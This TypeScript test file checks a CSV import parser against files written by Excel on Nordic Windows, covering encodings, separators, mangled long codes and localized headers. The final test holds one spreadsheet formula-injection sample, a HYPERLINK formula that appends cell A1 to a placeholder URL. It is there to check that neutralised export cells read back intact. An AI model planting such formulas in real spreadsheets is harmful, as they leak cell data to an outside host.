import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { parseReportsCsv, type CsvParseResult } from '../../electron/core/csv-parse-reports.ts';
import { describeCsvProblem, describeCsvWarning, describeReading } from '../../electron/core/csv-problem-text.ts';
import { columnForHeader, HEADER_NAMES, headerKey, IMPORT_COLUMNS } from '../../shared/csv-columns.ts';
import type { CsvProblem } from '../../shared/csv-import-problems.ts';
import { cp1252, utf16be, utf16le, utf8 } from '../helpers/excel-bytes.ts';

// Files as Excel on Finnish, Swedish and Norwegian Windows writes them, built byte by byte:
// "CSV (semicolon delimited)" in Windows-1252, "Unicode text" in UTF-16LE with tabs, and
// what Excel does to long codes and to times once it has opened a file.

const NOW = new Date(2025, 4, 20, 12, 0, 0);
const TARGET = { baseUrl: 'https://rc.ropo24.fi/rest', cid: '123456' };
const parse = (bytes: Uint8Array): CsvParseResult => parseReportsCsv(bytes, TARGET, () => NOW);

function ok(result: CsvParseResult) {
  assert.ok(result.ok, `expected no problems, got ${JSON.stringify(!result.ok && result.problems)}`);
  return result;
}
function problems(result: CsvParseResult): CsvProblem[] {
  assert.ok(!result.ok, 'expected problems');
  return result.problems;
}

describe('encodings Excel writes', () => {
  test('Windows-1252 with ä, ö, å and €, semicolons, CRLF, a Finnish time: read as such', () => {
    const text = 'status;usageplacecode;time;description\r\n' +
      'notdisconnected;643007572062443672;4.1.2024 10.41;Mittari käytävässä, ovi lukossa; maksu 12 € å ö\r\n';
    const quoted = text.replace('Mittari käytävässä, ovi lukossa; maksu 12 € å ö', '"Mittari käytävässä, ovi lukossa; maksu 12 € å ö"');
    const result = ok(parse(cp1252(quoted)));
    assert.equal(result.encoding, 'windows-1252');
    assert.equal(result.separator, ';');
    assert.equal(describeReading(result.encoding, result.separator), "Read as Windows-1252 (Excel's CSV), separated by semicolons.");
    const [row] = result.rows;
    assert.equal(row?.report.description, 'Mittari käytävässä, ovi lukossa; maksu 12 € å ö');
    assert.equal(row?.report.time, '2024-01-04 10:41:00');
  });

  test('Windows-1252 punctuation Excel puts in by itself (curly quotes, dashes, ellipsis) reads as those characters', () => {
    // 0x93 0x94: “ ”, 0x96: –, 0x85: …, 0x92: ’ (AutoCorrect's choices); none is a control character.
    const bytes = Uint8Array.from([...cp1252('status;usageplacecode;time;description\r\nnotdisconnected;UP-1;4.1.2024 10.41;'), 0x93, 0x4f, 0x94, 0x20, 0x96, 0x20, 0x85, 0x92, 0x0d, 0x0a]);
    const result = ok(parse(bytes));
    assert.equal(result.encoding, 'windows-1252');
    assert.equal(result.rows[0]?.report.description, '\u201CO\u201D \u2013 \u2026\u2019');
  });

  test('UTF-16LE "Unicode text": BOM, tabs, a Norwegian time', () => {
    const result = ok(parse(utf16le('status\tusageplacecode\ttime\tdescription\r\nconnected\t643007572062443672\t05.01.2024 08:15\tMålerskap låst\r\n')));
    assert.equal(result.encoding, 'utf-16le');
    assert.equal(result.separator, '\t');
    assert.equal(result.rows[0]?.report.time, '2024-01-05 08:15:00');
    assert.equal(result.rows[0]?.report.description, 'Målerskap låst');
  });

  test('UTF-16BE with BOM and tabs', () => {
    const result = ok(parse(utf16be('status\tusageplacecode\ttime\r\ndisconnected\tUP-1\t2024-01-04 10:41\r\n')));
    assert.equal(result.encoding, 'utf-16be');
    assert.equal(result.rows[0]?.report.time, '2024-01-04 10:41:00');
  });

  test('UTF-8 with and without BOM; ä stays ä, and a decomposed ä becomes the composed one', () => {
    assert.equal(ok(parse(utf8('\uFEFFstatus;usageplacecode;time;description\nconnected;UP-1;4.1.2024 10.41;ä\n'))).encoding, 'utf-8-bom');
    const plain = ok(parse(utf8('status;usageplacecode;time;description\nconnected;UP-1;4.1.2024 10.41;a\u0308\n')));
    assert.equal(plain.encoding, 'utf-8');
    assert.equal(plain.rows[0]?.report.description, 'ä');
  });

  test('UTF-8 rows with a Windows-1252 row among them are refused as mixed, never read as "kÃ¤ytÃ¤vÃ¤ssÃ¤"', () => {
    const head = 'status;usageplacecode;time;description\r\n';
    const mixed = Uint8Array.from([
      ...utf8(`${head}notdisconnected;UP-1;4.1.2024 10.41;Mittari käytävässä\r\n`),
      ...cp1252('notdisconnected;UP-2;4.1.2024 10.42;Ovi lukossa, avain hävinnyt\r\n'),
    ]);
    const [p, ...rest] = problems(parse(mixed));
    assert.deepEqual([p, rest], [{ code: 'mixed_encoding', line: 2, field: null, otherLine: 3 }, []]);
    assert.match(describeCsvProblem(p!), /^This line is UTF-8 text, but line 3 is not: .*"CSV UTF-8 \(Comma delimited\)"/);
    // Capitals: UTF-8's Ä Ö Å (C3 84, C3 96, C3 85) read in Windows-1252 as "Ã„", "Ã–", "Ã…".
    const capitals = Uint8Array.from([
      ...cp1252(`${head}notdisconnected;UP-1;4.1.2024 10.41;Åland €\n\n`),
      ...utf8('notdisconnected;ÄÖ-2;4.1.2024 10.42;Ö\n'),
    ]);
    assert.deepEqual(problems(parse(capitals)), [{ code: 'mixed_encoding', line: 4, field: null, otherLine: 2 }]);
    // One line with both: a UTF-8 ä beside a Windows-1252 one.
    const oneLine = Uint8Array.from([...utf8(`${head}notdisconnected;UP-1;4.1.2024 10.41;ä `), ...cp1252('ä\n')]);
    const [both] = problems(parse(oneLine));
    assert.deepEqual(both, { code: 'mixed_encoding', line: 2, field: null, otherLine: 2 });
    assert.match(describeCsvProblem(both!), /^This line mixes UTF-8 text with bytes that are not UTF-8/);
  });

  test('a file that fits no encoding is refused at its line', () => {
    // UTF-16 without its BOM: NUL bytes everywhere.
    const noBom = new Uint8Array(Buffer.from('status;usageplacecode\r\n', 'utf16le'));
    assert.deepEqual(problems(parse(noBom)), [{ code: 'not_text', line: 1, field: null, encoding: 'utf-8' }]);
    // 0x81 is no character in Windows-1252 (and the bytes are not UTF-8).
    const undefinedByte = Uint8Array.from([...cp1252('status;usageplacecode\nconnected;UP-ä\nconnected;UP-'), 0x81, 0x0a]);
    assert.deepEqual(problems(parse(undefinedByte)), [{ code: 'not_text', line: 3, field: null, encoding: 'windows-1252' }]);
    // A BOM promises UTF-8, and line 2 breaks it.
    const broken = Uint8Array.from([0xef, 0xbb, 0xbf, ...utf8('status;usageplacecode\nconnected;UP-'), 0xe4, 0x0a]);
    const [p] = problems(parse(broken));
    assert.deepEqual(p, { code: 'not_text', line: 2, field: null, encoding: 'utf-8-bom' });
    assert.match(describeCsvProblem(p!), /UTF-8, UTF-16 with a byte order mark, or Windows-1252/);
    // Odd UTF-16: the last byte is half a character.
    assert.equal(problems(parse(utf16le('status\tusageplacecode\r\nconnected\tUP-1\r\n').subarray(0, -1)))[0]?.code, 'not_text');
  });
});

describe('rows Excel shortened', () => {
  test('cells left out at the end of a row are empty; a value past the header\'s columns is refused', () => {
    // KB 77295: Excel may write no separators for a row's empty cells at its end.
    const text = [
      'status;usageplacecode;customernumber;time;description;invoices',
      'disconnected;UP-1;A1;4.1.2024 10.41',
      'notdisconnected;UP-2;;4.1.2024 10.42;Gate locked',
      'connected;UP-3;;4.1.2024 10.43;;;;',
      'connected;UP-4;;4.1.2024 10.44;;;;',
    ].join('\r\n');
    const result = ok(parse(cp1252(text)));
    assert.deepEqual(result.rows.map((r) => [r.report.usageplacecode, r.report.customernumber, r.report.description, r.report.invoices]), [
      ['UP-1', 'A1', undefined, []], ['UP-2', undefined, 'Gate locked', []], ['UP-3', undefined, undefined, []], ['UP-4', undefined, undefined, []],
    ]);
    const extra = problems(parse(utf8('status;usageplacecode;time\nconnected;UP-1;4.1.2024 10.41;Gate; locked\n')));
    assert.deepEqual(extra, [{ code: 'field_count', line: 2, field: null, found: 5, expected: 3, separator: ';' }]);
  });
});

describe('separators', () => {
  test('";", "," and tab are each taken from the header row, quoted separators not counted', () => {
    assert.equal(ok(parse(utf8('status,usageplacecode,time,description\nconnected,UP-1,4.1.2024 10.41,"a;b;c;d"\n'))).separator, ',');
    assert.deepEqual(ok(parse(utf8('"note; x";status;usageplacecode;time\na;connected;UP-1;4.1.2024 10.41\n'))).warnings[0], {
      code: 'ignored_columns', line: 1, field: null, names: ['note; x'],
    });
    assert.equal(ok(parse(utf8('status\tusageplacecode\ttime\tdescription\nconnected\tUP-1\t4.1.2024 10.41\ta, b; c\n'))).separator, '\t');
  });

  test('a header with as many of two separators is refused, naming them', () => {
    const [p] = problems(parse(utf8('\nstatus;usageplacecode,time\nconnected;UP-1,x\n')));
    assert.deepEqual(p, { code: 'separator_tie', line: 2, field: null, separators: [';', ','], count: 1 });
    assert.match(describeCsvProblem(p!), /";" \(semicolon\) or "," \(comma\)/);
    const [tabs] = problems(parse(utf8('status\tusageplacecode;time\tdescription;x\n')));
    assert.deepEqual(tabs?.code === 'separator_tie' && tabs.separators, [';', '\t']);
  });
});

describe('what Excel destroyed', () => {
  const header = 'status;usageplacecode;customernumber;contract_no;time;invoices';

  test('E-notation in each code field is refused with line, field, and the Excel fix', () => {
    const text = [
      header,
      'connected;6,43008E+17;C1;K1;4.1.2024 10.41;1:2',
      'connected;UP-2;6.43008E+17;K1;4.1.2024 10.41;1:2',
      'connected;UP-3;C1;5,55555E+05;4.1.2024 10.41;1:2',
      'connected;UP-4;C1;K1;4.1.2024 10.41;5,94294E+11:1234',
      'connected;UP-5;C1;K1;4.1.2024 10.41;594294:1,234E+3 594295:1',
      'connected;UP-6;A1E+5;1e5;4.1.2024 10.41;12E34:7',
    ].join('\r\n');
    const found = problems(parse(cp1252(text)));
    assert.deepEqual(found.map((p) => p.code === 'excel_number' && [p.line, p.field, p.value, p.part]), [
      [2, 'usageplacecode', '6,43008E+17', null],
      [3, 'customernumber', '6.43008E+17', null],
      [4, 'contract_no', '5,55555E+05', null],
      [5, 'invoices', '5,94294E+11', 'invoicenumber'],
      [6, 'invoices', '1,234E+3', 'jobid'],
    ], 'codes that are not what Excel writes (no sign after E) are left alone');
    const message = describeCsvProblem(found[0]!);
    assert.match(message, /"6,43008E\+17" is a number Excel wrote in E-notation: the usage place code's last digits are lost/);
    assert.match(message, /format the column as Text/);
    assert.match(message, /Data → From Text\/CSV/);
  });

  test('a long code ending in zeros past its 15th digit is a warning; when every long code does, one for the column', () => {
    const rows = (...codes: string[]) => utf8(`status;usageplacecode;time\n${codes.map((c, i) => `connected;${c};4.1.2024 10.${10 + i}`).join('\n')}\n`);
    const mixed = ok(parse(rows('643007572062443672', '643007572062443000', '643007572062443673', '6430075720624430')));
    assert.deepEqual(mixed.warnings, [
      { code: 'trailing_zeros', line: 3, field: 'usageplacecode', value: '643007572062443000' },
      { code: 'trailing_zeros', line: 5, field: 'usageplacecode', value: '6430075720624430' },
    ]);
    assert.match(describeCsvWarning(mixed.warnings[0]!), /15th digit/);
    assert.equal(ok(parse(rows('643007572062443000'))).warnings.length, 1, 'alone in its file');
    // Excel cut the whole column: said once, never kept quiet.
    const all = ok(parse(rows('643007572062443000', '643007572062444000', 'UP-1', '6430075720624450')));
    assert.deepEqual(all.warnings, [{ code: 'trailing_zeros_column', line: 1, field: 'usageplacecode', value: '643007572062443000', count: 3 }]);
    assert.match(describeCsvWarning(all.warnings[0]!), /^All 3 long usage place codes of the file end in zeros past their 15th digit \(the first: "643007572062443000"\)/);
    assert.deepEqual(ok(parse(rows('643007572062443010', '64300757206244301', 'UP-1000000000000000', '100000000000000'))).warnings, []);
  });
});

describe('headers in the clerk\'s language', () => {
  test('Finnish, Swedish and Norwegian headers read as the API\'s columns', () => {
    const row = 'disconnected;643007572062443672;A123456;555555b;594294:1234;4.1.2024 10.41;Kuvaus';
    const expected = { status: 'disconnected', usageplacecode: '643007572062443672', customernumber: 'A123456', contract_no: '555555b' };
    for (const header of [
      'Tila;Käyttöpaikka;Asiakasnumero;Sopimusnumero;Laskut;Aika;Kuvaus',
      'Status;Användningsställe;Kundnummer;Avtalsnummer;Fakturor;Tid;Beskrivning',
      'Status;Forbrukssted;Kundenummer;Avtalenummer;Fakturaer;Tidspunkt;Beskrivelse',
      'STATUS;Usage place code;Customer number;Contract no;INVOICES;time;Description',
      // Käyttöpaikka with decomposed letters, as a Mac may write it
      'tila;Ka\u0308ytto\u0308paikka;asiakasnumero;sopimusnumero;laskut;aika;kuvaus',
    ]) {
      const result = ok(parse(utf8(`${header}\r\n${row}\r\n`)));
      assert.deepEqual(result.warnings, [], header);
      const report = result.rows[0]?.report;
      assert.deepEqual(
        { status: report?.status, usageplacecode: report?.usageplacecode, customernumber: report?.customernumber, contract_no: report?.contract_no },
        expected, header,
      );
      assert.deepEqual([report?.invoices.length, report?.time, report?.description], [1, '2024-01-04 10:41:00', 'Kuvaus'], header);
    }
  });

  test("the README's example file imports as it says", () => {
    const readme = readFileSync(new URL('../../README.md', import.meta.url), 'utf8');
    const example = /```csv\n([\s\S]*?)```/.exec(readme)?.[1];
    assert.ok(example, 'the README has a csv example');
    const result = ok(parse(utf8(example)));
    assert.deepEqual(result.rows.map((r) => [r.report.status, r.report.time, r.report.invoices.length]), [
      ['disconnected', '2024-01-04 10:41:00', 2], ['notdisconnected', '2024-01-05 08:15:00', 1],
    ]);
  });

  test('every header name belongs to one column only', () => {
    const seen = new Map<string, string>();
    for (const column of IMPORT_COLUMNS) {
      for (const name of Object.values(HEADER_NAMES[column]).flat()) {
        const other = seen.get(headerKey(name));
        assert.ok(other === undefined || other === column, `${name} names ${other} and ${column}`);
        seen.set(headerKey(name), column);
        assert.equal(columnForHeader(name.toUpperCase()), column);
      }
    }
  });

  test('unknown columns are listed and ignored; a missing required one is refused', () => {
    const result = ok(parse(utf8('aika;status;colour;usageplacecode;state;;\n4.1.2024 10.41;connected;red;UP-1;sent;;\n4.1.2024 10.41;connected;blue;UP-2;sent;;z\n')));
    assert.deepEqual(result.warnings, [
      { code: 'ignored_columns', line: 1, field: null, names: ['colour', 'state'] },
      { code: 'unnamed_columns', line: 1, field: null, columns: [7] },
    ]);
    assert.match(describeCsvWarning(result.warnings[0]!), /colour, state/);
    assert.deepEqual(result.rows.map((r) => r.report.usageplacecode), ['UP-1', 'UP-2']);
    const missing = problems(parse(utf8('tila;asiakasnumero\nconnected;A1\n')));
    assert.deepEqual(missing, [{ code: 'missing_column', line: 1, field: 'usageplacecode' }, { code: 'missing_column', line: 1, field: 'time' }]);
    assert.match(describeCsvProblem(missing[0]!), /usageplacecode, käyttöpaikka, anläggnings-id, målepunkt-id/);
  });
});

describe('an export read back', () => {
  test('cells the export neutralised for Excel read as they were', () => {
    const result = ok(parse(utf8('time;status;usageplacecode;description\n4.1.2024 10.41;notdisconnected;\'-17;"\'=HYPERLINK(""http://x.invalid/?""&A1,""open"")"\n' +
      '4.1.2024 10.41;notdisconnected;UP-2;"\'\'+1"\n4.1.2024 10.41;notdisconnected;UP-3;\'plain\n')));
    assert.deepEqual(result.rows.map((r) => [r.report.usageplacecode, r.report.description]), [
      ['-17', '=HYPERLINK("http://x.invalid/?"&A1,"open")'],
      ['UP-2', "'+1"],
      ['UP-3', "'plain"],
    ]);
  });
});
